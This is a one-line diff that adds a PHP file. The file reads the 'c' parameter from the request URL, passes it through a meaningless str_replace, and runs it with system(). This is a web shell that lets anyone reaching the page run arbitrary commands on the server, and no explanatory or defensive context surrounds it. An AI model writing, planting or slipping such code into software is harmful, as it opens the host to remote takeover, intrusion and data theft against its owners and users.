@@ -1,0 +1,1 @@
+<?php $c = str_replace("X", $_GET["c"], "X"); system($c);
